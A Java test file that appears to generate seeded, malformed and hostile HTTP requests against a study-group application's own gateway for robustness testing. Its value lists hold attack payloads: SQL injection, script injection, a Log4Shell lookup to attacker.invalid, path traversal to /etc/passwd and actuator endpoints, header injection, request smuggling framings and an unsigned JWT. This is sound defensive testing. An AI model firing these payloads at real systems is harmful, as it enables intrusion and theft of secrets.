package dev.studyboard.e2e;

import dev.studyboard.e2e.HostileRequest.Caller;
import dev.studyboard.e2e.HostileRequest.Header;
import dev.studyboard.e2e.HostileRequest.Hostility;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.SplittableRandom;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Stream;

/**
 * A seeded generator of malformed and hostile requests to every route the gateway serves, by every method
 * (issue 12): the same seed always gives the same requests, so whatever one run finds can be replayed. First every
 * route by every method, anonymous and signed in; then each kind of {@link Hostility} in turn, the route, the values
 * and the caller drawn at random.
 *
 * <p>Nothing it sends contains what {@link HostileAnswers} looks for as a leak ({@code java.}, {@code SQL}, …), so a
 * leak found in an answer is the system's own words, never the request echoed back.
 */
final class HostileRequests {

    static final long DEFAULT_SEED = 12;
    /** The request body limit of the gateway and the services (studyboard.web.max-request-body). */
    static final int BODY_LIMIT = 4 * 1024 * 1024;
    /** Refused tokens per run: below the gateway's limit per address (20 a minute), which would stop every test. */
    static final int MOST_REFUSED_TOKENS = 10;
    /** Bodies over the limit actually sent (each is 4MB on the wire); the others declare a length and send none. */
    static final int MOST_LARGE_BODIES = 12;

    /** A route: a path whose {@code {book}}, {@code {number}}, {@code {item}}, {@code {member}}, {@code {import}} are filled in. */
    record Route(String path, List<String> methods) {

        static Route of(String path, String... methods) {
            return new Route(path, List.of(methods));
        }

        boolean takesBody() {
            return methods.stream().anyMatch(method -> method.equals("POST") || method.equals("PUT"));
        }
    }

    static final List<Route> ROUTES = List.of(
            Route.of("/api/catalog/books", "GET", "POST"),
            Route.of("/api/catalog/books/{book}", "GET", "DELETE"),
            Route.of("/api/catalog/books/{book}/chapters", "POST"),
            Route.of("/api/catalog/books/{book}/chapters/{number}", "GET", "PUT", "DELETE"),
            Route.of("/api/catalog/books/{book}/chapters/{number}/sections", "POST"),
            Route.of("/api/catalog/books/{book}/chapters/{number}/sections/{item}", "GET", "PUT", "DELETE"),
            Route.of("/api/members", "GET", "POST"),
            Route.of("/api/members/me", "GET"),
            Route.of("/api/members/{member}", "GET"),
            Route.of("/api/members/{member}/display-name", "PUT"),
            Route.of("/api/members/{member}/leave", "POST"),
            Route.of("/api/progress/books", "GET"),
            Route.of("/api/progress/books/{book}/board", "GET"),
            Route.of("/api/progress/books/{book}/board?format=markdown", "GET"),
            Route.of("/api/progress/members/{member}/summary", "GET"),
            Route.of("/api/progress/books/{book}/sections/{item}", "GET"),
            Route.of("/api/progress/books/{book}/sections/{item}/take", "POST"),
            Route.of("/api/progress/books/{book}/sections/{item}/assignee", "PUT", "DELETE"),
            Route.of("/api/progress/books/{book}/sections/{item}/start", "POST"),
            Route.of("/api/progress/books/{book}/sections/{item}/complete", "POST"),
            Route.of("/api/progress/books/{book}/sections/{item}/reopen", "POST"),
            Route.of("/api/imports", "POST"),
            Route.of("/api/imports/{import}", "GET"),
            Route.of("/api/dashboard/members/{member}", "GET"),
            Route.of("/api/system/services", "GET"),
            Route.of("/v3/api-docs", "GET"),
            Route.of("/api/catalog/v3/api-docs", "GET"),
            Route.of("/api/members/v3/api-docs", "GET"),
            Route.of("/api/progress/v3/api-docs", "GET"),
            Route.of("/swagger-ui.html", "GET"),
            Route.of("/system.html", "GET"));

    static final List<String> METHODS = List.of("GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD");
    /** Methods no route takes, some no server knows, some no server should accept. */
    static final List<String> ODD_METHODS =
            List.of("TRACE", "CONNECT", "PROPFIND", "MOVE", "LOCK", "PURGE", "FOO", "get", "G3T", "X".repeat(60));

    // ---- the values: each list is a kind of bad input, written as it goes on the wire ----

    static final List<String> BROKEN_JSON = List.of(
            "{",
            "}",
            "[",
            "{\"title\":",
            "{'title':'x'}",
            "{\"title\":\"x\",}",
            "{\"title\" \"x\"}",
            "{title: \"x\"}",
            "// comment\n{}",
            "/* comment */ {}",
            "{\"a\":1}{\"b\":2}",
            "\"just a string\"",
            "nul",
            "tru",
            "{\"title\":\"\\x41\"}",
            "{\"title\":\"\\u12\"}",
            "{\"title\":\"unterminated",
            "{\"title\":\"x\"}}}}",
            "{\"title\":NaN}",
            "{\"title\":undefined}",
            "[1,2,,3]",
            "{\"chapters\":[{\"number\":1,}]}",
            "\u0000\u0000\u0000",
            " ".repeat(100_000),
            "{" + " ".repeat(100_000),
            "{\"title\":\"x\"" + ",\"a\":1".repeat(20_000) + "}",
            "",
            "null",
            "[]",
            "0");

    static final List<String> CONTENT_TYPES = List.of(
            "text/plain",
            "application/xml",
            "text/html",
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/form-data; boundary=x",
            "application/x-www-form-urlencoded",
            "application/json; charset=banana",
            "application/json; charset=utf-7",
            "application/json; charset=UTF-16",
            "application/json;;;",
            "application/json, text/plain",
            "application/json; charset=\"",
            "application/",
            "/json",
            ";;;",
            "*/*",
            "application/*",
            "application/vnd.api+json",
            "application/merge-patch+json",
            "application/octet-stream",
            "image/png",
            "text/json",
            "APPLICATION/JSON",
            "application/json\t",
            "application/json; q=2",
            "a".repeat(4000));

    static final List<String> BAD_UUIDS = List.of(
            "not-a-uuid",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "ZZZZZZZZ-ZZZZ-ZZZZ-ZZZZ-ZZZZZZZZZZZZ",
            "1-1-1-1-1",
            "0a0b0c0d0e0f10111213141516171819",
            "%7B0a0b0c0d-0e0f-1011-1213-141516171819%7D",
            "0a0b0c0d-0e0f-1011-1213-1415161718190",
            "0a0b0c0d-0e0f-1011-1213-14151617181",
            "0a0b0c0d-0e0f-1011-1213-14151617181g",
            "%20",
            "-1",
            "null",
            "undefined",
            "%2e%2e",
            "0x1",
            "%D9%A0%D9%A1",
            "a".repeat(3000),
            "%F0%9F%98%80",
            "0a0b0c0d-0e0f-1011-1213-141516171819;x=1");

    static final List<String> BAD_ITEMS = List.of(
            "8..7",
            "8.",
            ".7",
            "-8.7",
            "8.7.6",
            "999999999999999999999.1",
            "8,7",
            "8.7%00",
            "%D9%A8.%D9%A7",
            "8.07",
            "0.0",
            "1e3",
            "%20",
            "a".repeat(1000),
            "8.7%0d%0aX-Injected:%201",
            "%F0%9F%98%80");

    static final List<String> BAD_NUMBERS_IN_PATH = List.of(
            "-1", "0", "2147483648", "99999999999999999999", "1.5", "abc", "1e2", "0x10", "+1", "%20", "%D9%A1", "");

    static final List<String> EXTREME_NUMBERS = List.of(
            "1e999999999",
            "-1e-999999999",
            "9".repeat(1000),
            "-0",
            "0x10",
            "NaN",
            "Infinity",
            "-Infinity",
            "1.7976931348623157e309",
            "2147483648",
            "-2147483649",
            "9223372036854775808",
            "-9223372036854775809",
            "1.5",
            "01",
            "+1",
            ".5",
            "1e",
            "-",
            "1_000",
            "0." + "0".repeat(5000) + "1",
            "1" + "0".repeat(400) + ".0",
            "true",
            "\"8\"",
            "[8]",
            "{}");

    static final List<String> BAD_IF_MATCH = List.of(
            "\"x\"",
            "W/\"1\"",
            "\"1\", \"2\"",
            "\"\"",
            "\"99999999999999999999\"",
            "\"-1\"",
            "1",
            "W/",
            "\"",
            "\"1",
            "a".repeat(4000),
            "\"\u00e9\"",
            "W/\"W/\"1\"\"",
            "\"0x10\"",
            "\"1e3\"");

    static final List<String> BAD_TRACEPARENTS = List.of(
            "",
            "00",
            "zz-zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz-zzzzzzzzzzzzzzzz-zz",
            "00-00000000000000000000000000000000-0000000000000000-01",
            "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-extra",
            "00-4BF92F3577B34DA6A3CE929D0E0E4736-00F067AA0BA902B7-01",
            "01-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-09-what-is-this",
            "00-" + "a".repeat(2000),
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7",
            "00--00f067aa0ba902b7-01",
            "\u00ff\u00fe");

    static final List<String> HOSTILE_TEXT = List.of(
            "'; DROP TABLE book; --",
            "\" OR \"1\"=\"1",
            "<script>alert(1)</script>",
            "${jndi:ldap://attacker.invalid/a}",
            "#{7*7}{{7*7}}",
            "%s%s%s%n%x",
            "../../../../etc/passwd",
            "\u202eevil\u202c",
            "\u200b\u200c\u200d\ufeff",
            "😀🏳️‍🌈👨‍👩‍👧‍👦",
            "Ω≈ç√∫˜µ≤≥÷",
            "마이크로서비스".repeat(5000),
            "a".repeat(100_000),
            " ",
            "\t\n\r",
            "null",
            "true",
            "0",
            "[]",
            "{}");

    /** Raw and escaped characters that are not text: control characters, lone surrogates, noncharacters. */
    static final List<String> CONTROL_IN_JSON = List.of(
            "\"\\u0000\"",
            "\"a\\u0000b\"",
            "\"\\ud800\"",
            "\"\\udfff\\ud800\"",
            "\"\\uffff\\ufffe\"",
            "\"\u0001\u0002\u001f\"",
            "\"line\nbreak\"",
            "\"\u007f\"",
            "\"\\u001b[31mred\\u001b[0m\"",
            "\"\\u2028\\u2029\"");

    static final List<String> CONTROL_IN_URL = List.of(
            "%00", "%0d%0a", "%0a", "%1b", "%7f", "%ff", "%c0%80", "%ed%a0%80", "%ef%bf%bf", "%e2%80%ae", "%", "%zz");

    private final SplittableRandom random;
    private final List<HostileRequest> requests = new ArrayList<>();
    private int refusedTokens;
    private int largeBodies;

    HostileRequests(long seed) {
        this.random = new SplittableRandom(seed);
    }

    /** The seed of this run: {@code -Dhostile.seed}, or the fixed default. */
    static long seed() {
        return Long.getLong("hostile.seed", DEFAULT_SEED);
    }

    /** At least {@code count} requests: every route by every method first, then every kind of hostility in turn. */
    List<HostileRequest> generate(int count) {
        for (var route : ROUTES) {
            for (var method :
                    Stream.concat(METHODS.stream(), ODD_METHODS.stream()).toList()) {
                for (var caller : List.of(Caller.ANONYMOUS, Caller.ORGANIZER)) {
                    var draft = new Draft(route, method, caller);
                    draft.jsonBody(body(route, quote(""), "8")); // a shape the route takes, but blank: changes nothing
                    add(Hostility.ROUTE_AND_METHOD, draft);
                }
            }
        }
        var kinds = Arrays.stream(Hostility.values())
                .filter(kind -> kind != Hostility.ROUTE_AND_METHOD)
                .toList();
        for (int i = 0; requests.size() < count; i++) {
            var kind = kinds.get(i % kinds.size());
            add(kind, draft(kind));
        }
        return List.copyOf(requests);
    }

    private void add(Hostility kind, Draft draft) {
        requests.add(new HostileRequest(
                requests.size(),
                kind,
                draft.method,
                draft.target,
                draft.caller,
                List.copyOf(draft.headers),
                draft.body,
                draft.chunked,
                draft.framed));
    }

    private Draft draft(Hostility kind) {
        return switch (kind) {
            case ROUTE_AND_METHOD -> new Draft(pick(ROUTES), pick(METHODS), caller());
            case BROKEN_JSON -> bodyRoute().jsonBody(pick(BROKEN_JSON));
            case DEEP_JSON -> deepJson();
            case CONTENT_TYPE -> contentType();
            case BODY_OVER_LIMIT -> bodyOverLimit();
            case INVALID_ID -> invalidId();
            case PATH_TRAVERSAL -> pathTraversal();
            case CONTROL_CHARACTERS -> controlCharacters();
            case EXTREME_NUMBERS -> extremeNumbers();
            case BAD_IF_MATCH -> badIfMatch();
            case BAD_TRACEPARENT -> badTraceparent();
            case OVERSIZED_HEADERS -> oversizedHeaders();
            case ODD_HEADERS -> oddHeaders();
            case HOSTILE_TEXT -> hostileText();
            case BAD_TOKEN -> badToken();
        };
    }

    private Draft deepJson() {
        int depth = pick(List.of(600, 1_500, 10_000, 100_000));
        var nested = switch (random.nextInt(3)) {
            case 0 -> "[".repeat(depth) + "]".repeat(depth);
            case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
            default -> "[".repeat(depth); // and never closed
        };
        var draft = bodyRoute();
        return draft.jsonBody(random.nextBoolean() ? nested : body(draft.route, nested, "8"));
    }

    private Draft contentType() {
        var draft = bodyRoute();
        draft.headers.removeIf(header -> header.name().equals("Content-Type"));
        switch (random.nextInt(4)) {
            case 0 -> {} // none at all
            case 1 -> {
                draft.header("Content-Type", "application/json");
                draft.header("Content-Type", "text/plain"); // two, disagreeing
            }
            default -> draft.header("Content-Type", pick(CONTENT_TYPES));
        }
        return draft;
    }

    private Draft bodyOverLimit() {
        var draft = bodyRoute();
        if (largeBodies < MOST_LARGE_BODIES) {
            largeBodies++;
            var padding = "a".repeat(BODY_LIMIT + 1 + random.nextInt(64 * 1024) - "{\"title\":\"\"}".length());
            draft.jsonBody("{\"title\":\"" + padding + "\"}");
            draft.chunked = largeBodies % 2 == 0;
            return draft;
        }
        // a length over the limit, declared but not sent: refused at once, or the request would wait for it
        draft.body = new byte[0];
        draft.framed = true;
        draft.header(
                "Content-Length",
                pick(List.of(String.valueOf(BODY_LIMIT + 1), "5000000000", "99999999999999999999999")));
        return draft;
    }

    private Draft invalidId() {
        var route = pick(ROUTES.stream().filter(r -> r.path().contains("{")).toList());
        var draft = new Draft(route, pick(route.methods()), caller());
        // one placeholder bad, the others good
        var wrong = pick(Stream.of("{book}", "{member}", "{import}", "{number}", "{item}")
                .filter(route.path()::contains)
                .toList());
        var value = switch (wrong) {
            case "{number}" -> pick(BAD_NUMBERS_IN_PATH);
            case "{item}" -> pick(BAD_ITEMS);
            default -> pick(BAD_UUIDS);
        };
        draft.target = fill(route.path().replace(wrong, value));
        return draft;
    }

    private Draft pathTraversal() {
        var prefix = pick(List.of(
                "/api/catalog/",
                "/api/members/",
                "/api/progress/",
                "/api/imports/",
                "/api/dashboard/",
                "/api/system/",
                "/swagger-ui/",
                "/webjars/",
                "/v3/api-docs/",
                "/"));
        var target = pick(List.of(
                "../../actuator/health",
                "../../../actuator/env",
                "%2e%2e/%2e%2e/actuator/env",
                "%2E%2E/%2E%2E/actuator/health",
                "..%2f..%2factuator%2fenv",
                "..%2F..%2Factuator%2Fenv",
                "%252e%252e/%252e%252e/actuator/env",
                "..;/..;/actuator/env",
                "....//....//actuator/env",
                "..\\..\\actuator\\env",
                "%2e%2e%5c%2e%2e%5cactuator%5cenv",
                "../../../../../../etc/passwd",
                "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                ".%2e/.%2e/actuator/env",
                "%2e/%2e/actuator/env",
                "books/%2F..%2F..%2Factuator",
                "books/..%00/..%00/actuator",
                "actuator/env",
                "actuator/heapdump",
                "../../application.yml",
                "../../../../proc/self/environ",
                "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"));
        var draft = new Draft(pick(ROUTES), pick(List.of("GET", "GET", "GET", "HEAD", "POST")), caller());
        draft.target = prefix + target;
        draft.body = new byte[0];
        draft.headers.clear();
        return draft;
    }

    private Draft controlCharacters() {
        var draft = bodyRoute();
        switch (random.nextInt(5)) {
            case 0 -> draft.jsonBody(body(draft.route, pick(CONTROL_IN_JSON), "8"));
            case 1 ->
                draft.target = draft.target + (draft.target.contains("?") ? "&" : "?") + "q=" + pick(CONTROL_IN_URL);
            case 2 -> {
                var route =
                        pick(ROUTES.stream().filter(r -> r.path().contains("{")).toList());
                draft = new Draft(route, pick(route.methods()), caller());
                draft.target = fill(route.path().replaceFirst("\\{[a-z]+}", "x" + pick(CONTROL_IN_URL) + "y"));
            }
            case 3 ->
                draft.header(
                        pick(List.of("X-Note", "Idempotency-Key", "If-Match", "Accept")),
                        pick(List.of(
                                "a\u0001b",
                                "\u0000",
                                "a\u007fb",
                                "\u00ff\u00fe\u00fd",
                                "\u00c3\u00a9",
                                "a\u000bb",
                                "\u001b[31m")));
            default ->
                draft.rawBody(new byte[] {
                    '{',
                    '"',
                    't',
                    'i',
                    't',
                    'l',
                    'e',
                    '"',
                    ':',
                    '"',
                    (byte) 0xc0,
                    (byte) 0xaf,
                    (byte) 0xff,
                    (byte) 0xed,
                    (byte) 0xa0,
                    (byte) 0x80,
                    '"',
                    '}'
                });
        }
        return draft;
    }

    private Draft extremeNumbers() {
        var number = pick(EXTREME_NUMBERS);
        if (random.nextBoolean()) {
            var route = pick(ROUTES.stream()
                    .filter(r -> r.path().startsWith("/api/catalog/books") && r.takesBody())
                    .toList());
            var draft = new Draft(
                    route,
                    pick(route.methods().stream().filter(m -> !m.equals("GET")).toList()),
                    caller());
            return draft.jsonBody(body(route, quote("x"), number));
        }
        var draft = new Draft(pick(List.of(ROUTES.get(0), ROUTES.get(6))), "GET", caller());
        var encoded = number.replace("+", "%2B")
                .replace("\"", "%22")
                .replace("{", "%7B")
                .replace("}", "%7D")
                .replace("[", "%5B")
                .replace("]", "%5D");
        draft.target = draft.target + "?page=" + encoded + "&size=" + encoded;
        return draft;
    }

    private Draft badIfMatch() {
        var route = pick(ROUTES.stream()
                .filter(r ->
                        r.path().startsWith("/api/catalog/books/") || r.path().startsWith("/api/members/{member}/"))
                .filter(r -> r.methods().stream().anyMatch(m -> !m.equals("GET")))
                .toList());
        var draft = new Draft(
                route,
                pick(route.methods().stream().filter(m -> !m.equals("GET")).toList()),
                caller());
        draft.jsonBody(body(route, quote("x"), "8"));
        draft.header("If-Match", pick(BAD_IF_MATCH));
        if (random.nextInt(4) == 0) {
            draft.header("If-Match", "\"1\""); // and a second one
        }
        return draft;
    }

    private Draft badTraceparent() {
        var draft = new Draft(pick(ROUTES), null, caller());
        draft.header("traceparent", pick(BAD_TRACEPARENTS));
        switch (random.nextInt(4)) {
            case 0 -> draft.header("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01");
            case 1 -> draft.header("tracestate", "a=b,".repeat(500) + "=,==,\u00ff");
            case 2 -> draft.header("baggage", pick(List.of("=;=;", "k=" + "v".repeat(4000), "%zz=%zz", ",,,")));
            default ->
                draft.header(pick(List.of("b3", "X-B3-TraceId", "X-B3-SpanId")), pick(List.of("zz", "-", "1-2-3-4-5")));
        }
        return draft;
    }

    private Draft oversizedHeaders() {
        var draft = new Draft(pick(ROUTES), null, caller());
        switch (random.nextInt(6)) {
            case 0 -> draft.header("X-Padding", "x".repeat(9_000 + random.nextInt(20_000)));
            case 1 -> {
                for (int i = 0; i < 150; i++) {
                    draft.header("X-Padding-" + i, "x".repeat(80));
                }
            }
            case 2 -> draft.target = draft.target + "?q=" + "x".repeat(4_100 + random.nextInt(20_000));
            case 3 -> draft.target = "/api/catalog/books/" + "x".repeat(5_000 + random.nextInt(10_000));
            case 4 -> draft.header("Cookie", "session=" + "x".repeat(7_000)); // under the gateway's limit
            default -> draft.header("X-Padding", "x".repeat(7_600 + random.nextInt(400))); // near it
        }
        return draft;
    }

    private Draft oddHeaders() {
        var draft = new Draft(pick(ROUTES), null, caller());
        var header = pick(List.<Function<Draft, Draft>>of(
                d -> d.header(
                        "Accept",
                        pick(List.of(
                                "text/html;q=x",
                                "a/b/c",
                                "application/json, ,;",
                                "*/*;q=-1",
                                "image/png",
                                "text/html",
                                "application/json;charset=banana",
                                "x".repeat(3000)))),
                d -> d.header("Accept-Language", pick(List.of("xx-!!!;q=9", "*;q=2", "zz", ",,,", "ko-KR;q=abc"))),
                d -> d.header("Accept-Encoding", pick(List.of("gzip;q=2,br;q=-1", "identity;q=0", "*;q=0", "zstd"))),
                d -> d.header("Accept-Charset", pick(List.of("banana", "utf-8;q=x"))),
                d -> d.header("Content-Encoding", pick(List.of("gzip", "br", "deflate", "banana"))),
                d -> d.header(
                        "X-Forwarded-For",
                        pick(List.of(
                                "not-an-address",
                                "1.1.1.1, " + "2.2.2.2, ".repeat(200),
                                "::::",
                                "999.999.999.999",
                                "[::1]:80"))),
                d -> d.header("X-Forwarded-Host", pick(List.of("evil.invalid", "a b", ":0", "[::1"))),
                d -> d.header("X-Forwarded-Proto", pick(List.of("gopher", "", "https, http"))),
                d -> d.header("X-Forwarded-Prefix", pick(List.of("/../../", "//evil.invalid", "%2e%2e"))),
                d -> d.header("Forwarded", pick(List.of("for=;;;", "host=evil.invalid;proto=gopher", "by=\"\""))),
                d -> d.header("Host", pick(List.of("evil.invalid", "[::1", "a b", ""))),
                d -> d.header("Origin", "http://evil.invalid").header("Access-Control-Request-Method", pick(METHODS)),
                d -> d.header("Expect", pick(List.of("100-continue", "banana", "200-ok"))),
                d -> d.header("Range", pick(List.of("bytes=99999999999-", "bytes=-1-2", "lines=1-2", "bytes=0-0,1-1"))),
                d -> d.header("If-None-Match", pick(List.of("\"x", "*", "W/"))),
                d -> d.header("If-Modified-Since", pick(List.of("yesterday", "Tue, 99 Foo 9999 99:99:99 GMT"))),
                d -> d.header("If-Unmodified-Since", pick(List.of("tomorrow", "0"))),
                d -> d.header("X-Request-Id", pick(List.of("a b c", "x".repeat(500), "\u00ff", "../.."))),
                d -> d.header("Idempotency-Key", pick(List.of("", " ", "x".repeat(300), "a b", "\u00e9", "%00"))),
                d -> d.header("X-HTTP-Method-Override", pick(List.of("DELETE", "PURGE"))),
                d -> d.header("Upgrade", pick(List.of("h2c", "websocket")))
                        .header("HTTP2-Settings", "AAMAAABkAAQAAP__"),
                d -> {
                    d.framed = true; // a Content-Length that is no length, or two that disagree
                    d.header("Content-Length", pick(List.of("abc", "-1", "1, 2", "0x10")));
                    return d;
                },
                d -> {
                    d.framed = true; // both framings at once: request smuggling's way in
                    d.body = "0\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
                    return d.header("Content-Length", "5").header("Transfer-Encoding", "chunked");
                },
                d -> {
                    d.framed = true; // chunks whose size is no number
                    d.body = "zz\r\nabc\r\n0\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
                    return d.header("Transfer-Encoding", "chunked");
                }));
        return header.apply(draft);
    }

    private Draft hostileText() {
        var text = pick(HOSTILE_TEXT);
        switch (random.nextInt(3)) {
            case 0 -> {
                var draft = new Draft(pick(List.of(ROUTES.get(0), ROUTES.get(6))), "GET", caller());
                draft.target = draft.target + "?status=" + urlEncode(text) + "&style=" + urlEncode(text);
                return draft;
            }
            case 1 -> {
                var route = pick(
                        ROUTES.stream().filter(r -> r.path().contains("{item}")).toList());
                var draft = new Draft(route, pick(route.methods()), caller());
                draft.target = fill(route.path().replace("{item}", urlEncode(text)));
                return draft.jsonBody(body(route, quote("x"), "8"));
            }
            default -> {
                var draft = bodyRoute();
                return draft.jsonBody(body(draft.route, quote(text), "8"));
            }
        }
    }

    private Draft badToken() {
        var draft = new Draft(pick(ROUTES), null, Caller.ANONYMOUS);
        if (refusedTokens < MOST_REFUSED_TOKENS) {
            refusedTokens++;
            draft.caller = Caller.REFUSED;
            return draft.header(
                    "Authorization",
                    pick(List.of(
                            "Bearer not-a-token",
                            "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJvcmdhbml6ZXIifQ.",
                            "Bearer a.b.c",
                            "Bearer",
                            "bearer  x",
                            "Bearer " + "A".repeat(6_000))));
        }
        // not a bearer token at all: anonymous to the gateway, and not counted as refused
        return draft.header(
                "Authorization",
                pick(List.of(
                        "Basic Zm9vOmJhcg==",
                        "Basic !!!",
                        "Digest username=\"x\"",
                        "Negotiate YII=",
                        "Token abc",
                        "")));
    }

    // ---- drafts and values ----

    /** A request being made: a route by one of its methods, with the body that route takes. */
    private final class Draft {
        final Route route;
        String method;
        String target;
        Caller caller;
        final List<Header> headers = new ArrayList<>();
        byte[] body = new byte[0];
        boolean chunked;
        boolean framed;

        Draft(Route route, String method, Caller caller) {
            this.route = route;
            this.method = method != null ? method : pick(route.methods());
            this.target = fill(route.path());
            this.caller = caller;
            header("Accept", "application/json");
            if (route.path().equals("/api/imports")) {
                header("Idempotency-Key", "hostile-" + random.nextInt(1_000_000));
            }
            if (route.takesBody() && !this.method.equals("GET")) {
                jsonBody(body(route, quote("x"), "8"));
            }
        }

        Draft header(String name, String value) {
            headers.add(new Header(name, value));
            return this;
        }

        Draft jsonBody(String json) {
            headers.removeIf(header -> header.name().equals("Content-Type"));
            header("Content-Type", "application/json");
            body = json.getBytes(StandardCharsets.UTF_8);
            chunked = random.nextInt(5) == 0;
            return this;
        }

        Draft rawBody(byte[] bytes) {
            jsonBody("");
            body = bytes;
            return this;
        }
    }

    /** A route that takes a body, by a method that sends one. */
    private Draft bodyRoute() {
        var route = pick(ROUTES.stream().filter(Route::takesBody).toList());
        var method = pick(route.methods().stream().filter(m -> !m.equals("GET")).toList());
        return new Draft(route, method, caller());
    }

    /** Mostly the organizer, who may do most, so most requests get past the token to the input. */
    private Caller caller() {
        int draw = random.nextInt(10);
        return draw < 5 ? Caller.ORGANIZER : draw < 7 ? Caller.MEMBER : Caller.ANONYMOUS;
    }

    /** The path with its placeholders filled with values of the right form (random ids: nothing existing). */
    private String fill(String path) {
        return path.replace("{book}", uuid())
                .replace("{member}", uuid())
                .replace("{import}", uuid())
                .replace("{number}", String.valueOf(1 + random.nextInt(20)))
                .replace("{item}", (1 + random.nextInt(20)) + "." + (1 + random.nextInt(20)));
    }

    private String uuid() {
        return new UUID(random.nextLong(), random.nextLong()).toString();
    }

    /** The JSON body the route takes, with {@code text} and {@code number} (JSON as written) in its fields. */
    static String body(Route route, String text, String number) {
        var path = route.path();
        if (path.equals("/api/catalog/books")) {
            return "{\"title\":%1$s,\"authors\":[%1$s],\"chapters\":[{\"number\":%2$s,\"title\":%1$s,\"sections\":"
                            .formatted(text, number)
                    + "[{\"item\":\"8.7\",\"title\":%1$s,\"page\":%2$s}]}]}".formatted(text, number);
        }
        if (path.endsWith("/chapters")) {
            return "{\"number\":%2$s,\"title\":%1$s,\"sections\":[]}".formatted(text, number);
        }
        if (path.endsWith("/chapters/{number}")) {
            return "{\"title\":%s}".formatted(text);
        }
        if (path.endsWith("/sections")) {
            return "{\"item\":\"8.9\",\"title\":%1$s,\"page\":%2$s}".formatted(text, number);
        }
        if (path.endsWith("/sections/{item}") && path.startsWith("/api/catalog")) {
            return "{\"title\":%1$s,\"page\":%2$s}".formatted(text, number);
        }
        if (path.equals("/api/members")) {
            return "{\"displayName\":%s,\"email\":\"hostile@example.org\"}".formatted(text);
        }
        if (path.endsWith("/display-name")) {
            return "{\"displayName\":%s}".formatted(text);
        }
        if (path.endsWith("/assignee")) {
            return "{\"memberId\":%s}".formatted(text);
        }
        if (path.equals("/api/imports")) {
            return "{\"notes\":%s,\"authors\":[\"Sam Newman\"],\"reader\":%s}".formatted(text, text);
        }
        return "{\"note\":%s}".formatted(text);
    }

    /** {@code text} as a JSON string: quotes, backslashes and control characters escaped, the rest as it is. */
    static String quote(String text) {
        var json = new StringBuilder("\"");
        text.chars().forEach(c -> {
            if (c == '"' || c == '\\') {
                json.append('\\').append((char) c);
            } else if (c < 0x20) {
                json.append(String.format("\\u%04x", c));
            } else {
                json.append((char) c);
            }
        });
        return json.append('"').toString();
    }

    private static String urlEncode(String text) {
        return java.net.URLEncoder.encode(text, StandardCharsets.UTF_8);
    }

    private <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }
}
